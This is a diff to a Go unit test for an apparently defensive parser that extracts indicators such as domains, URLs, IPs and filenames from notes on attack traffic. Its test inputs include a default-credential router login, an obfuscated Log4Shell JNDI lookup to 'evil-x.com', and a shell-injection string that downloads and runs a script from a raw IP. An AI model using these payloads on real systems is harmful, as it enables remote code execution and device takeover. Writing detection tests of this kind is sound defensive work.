@@ -76,6 +76,7 @@ func TestFragmentsInNotationsOfPosts(t *testing.T) {
 		{"", "POST /boaform/formLogin with username=admin&psd=Feefifofum", "argument:psd argument:username file:/boaform/formLogin"},
 		{"", "POST /boaform/formLogin where a=b", "file:/boaform/formLogin"},
 		{"", "${${lower:j}ndi:${lower:l}dap://evil-x.com/a}", "domain:evil-x.com input:${${lower:j}ndi:${lower:l}dap://evil-x.com/a}"},
+		{"", "{x}http://evil-x.com/a", "domain:evil-x.com url:http://evil-x.com/a"},
 		{"", "ports 5555, 6000-6002", "port:5555/tcp port:6000/tcp port:6001/tcp port:6002/tcp"},
 		{"", "ports 1000-5000 in 2010-2014", ""},
 		{"", "cd${IFS}/tmp;wget${IFS}http://45.142.212.100/b.sh;sh${IFS}b.sh", "filename:b.sh ipv4:45.142.212.100 url:http://45.142.212.100/b.sh"},
